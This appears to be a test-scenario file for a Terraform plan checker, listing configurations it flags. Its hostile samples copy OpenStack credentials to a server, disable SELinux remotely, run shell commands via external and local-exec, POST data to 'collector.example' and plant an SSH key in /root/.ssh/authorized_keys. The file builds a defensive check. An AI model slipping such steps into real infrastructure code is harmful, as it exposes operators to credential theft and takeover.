import { add, addServer, edited, inner, listIn, replaced, scenariosOf, set } from "../../scenario";
import { COMMAND, LATER, RUNS, SERVER, dataAs, toNull } from "./parts";

const { forbidden, person, question } = scenariosOf("code");

/** Commands and programs of the engine. */
export const ENGINE = [
  forbidden(
    "code-local-exec",
    "revidr",
    "a command after the deployment (local-exec)",
    "A command runs on the operator's machine.",
    (config) => add(config, "terraform_data", "after", RUNS),
  ),
  forbidden(
    "code-local-exec-on-server",
    "revidr",
    "a command when the proxy is made, on the block that exists",
    "A command waits to run on the operator's machine.",
    (config) => set(config, SERVER, "revidr-proxy", RUNS),
  ),
  forbidden(
    "code-local-exec-on-destroy",
    "revnew",
    "a command when a server goes, on the block that exists",
    "A command waits to run on the operator's machine.",
    (config) =>
      set(config, SERVER, "revnew-database", {
        provisioner: [{ "local-exec": { when: "destroy", command: COMMAND } }],
      }),
  ),
  forbidden(
    "code-local-exec-on-server-group",
    "site",
    "a server group whose making runs a command",
    "A command runs on the operator's machine.",
    (config) =>
      add(config, "openstack_compute_servergroup_v2", "spread", {
        name: "rev-spread",
        policies: ["soft-anti-affinity"],
        ...RUNS,
      }),
  ),
  person(
    "code-remote-exec",
    "revidr",
    "another server, and commands that the engine runs on it",
    "The engine logs in to a server and runs what nobody has reviewed.",
    (config) =>
      addServer(config, "revidr-worker", {
        provisioner: [{ "remote-exec": { inline: ["sudo setenforce 0"] } }],
        connection: { host: "${self.access_ip_v4}", user: "rocky", agent: true },
      }),
  ),
  forbidden(
    "code-file-upload",
    "revidr",
    "another server, and a copy of the operator's cloud access on it",
    "The operator's credentials go to a server.",
    (config) =>
      addServer(config, "revidr-worker", {
        provisioner: [
          { file: { source: "~/.config/openstack/clouds.yaml", destination: "/tmp/clouds.yaml" } },
        ],
        connection: { host: "${self.access_ip_v4}", user: "rocky", agent: true },
      }),
  ),
  forbidden(
    "code-null-resource",
    "revidr",
    "a null_resource with a command",
    "A command runs on the operator's machine, by a provider that the project does not use.",
    {
      config: (config) => add(config, "terraform_data", "after", RUNS),
      editPlan: toNull,
    },
  ),
  person(
    "code-null-resource-plain",
    "revidr",
    "a null_resource without anything",
    "A provider that the project does not use is downloaded and run.",
    {
      config: (config) => add(config, "terraform_data", "after", {}),
      editPlan: toNull,
    },
  ),
  question(
    "code-terraform-data",
    "revidr",
    "a value kept in the state (terraform_data)",
    "It does nothing, but is no object of the project.",
    (config) => add(config, "terraform_data", "release", { input: "2026-11" }),
  ),
  forbidden(
    "code-external-later",
    "revidr",
    "an external program that is asked while applying",
    "A program runs on the operator's machine.",
    {
      ...LATER,
      editPlan: dataAs("external", "external", { program: ["sh", "-c", COMMAND] }),
    },
  ),
  forbidden(
    "code-external-at-once",
    "revidr",
    "an external program that was asked while planning",
    "A program runs on the operator's machine with every plan.",
    {
      file: "unchanged",
      editPlan: edited((plan) => {
        // Read while planning: no change, but in the prior state and in the configuration.
        listIn(plan, "prior_state", "values", "root_module", "resources").push({
          address: "data.external.facts",
          mode: "data",
          type: "external",
          name: "facts",
          provider_name: "registry.terraform.io/hashicorp/external",
          schema_version: 0,
          values: { id: "-", program: ["sh", "-c", COMMAND], result: { ok: "yes" } },
          sensitive_values: { result: {} },
        });
        inner(plan, "configuration", "provider_config")["external"] = {
          name: "external",
          full_name: "registry.terraform.io/hashicorp/external",
        };
        listIn(plan, "configuration", "root_module", "resources").push({
          address: "data.external.facts",
          mode: "data",
          type: "external",
          name: "facts",
          provider_config_key: "external",
          expressions: { program: { constant_value: ["sh", "-c", COMMAND] } },
          schema_version: 0,
        });
      }),
    },
  ),
  forbidden(
    "code-http-later",
    "revidr",
    "addresses are told to a web service (http)",
    "What the plan knows leaves for a stranger's server.",
    {
      ...LATER,
      editPlan: dataAs("http", "http", {
        url: "https://collector.example/?site=rev",
        method: "POST",
        request_body: "addresses",
      }),
    },
  ),
  forbidden(
    "code-local-file",
    "revidr",
    "a file is written on the operator's machine (local_file)",
    "What is written there runs at the next login.",
    {
      config: (config) => add(config, "terraform_data", "keys", { input: "ssh-ed25519 AAAA stranger" }),
      editPlan: replaced(
        ["terraform_data", "local_file"],
        ["terraform.io/builtin/terraform", "registry.terraform.io/hashicorp/local"],
        [
          '"input":"ssh-ed25519 AAAA stranger"',
          '"content":"ssh-ed25519 AAAA stranger","filename":"/root/.ssh/authorized_keys"',
        ],
      ),
    },
  ),
];
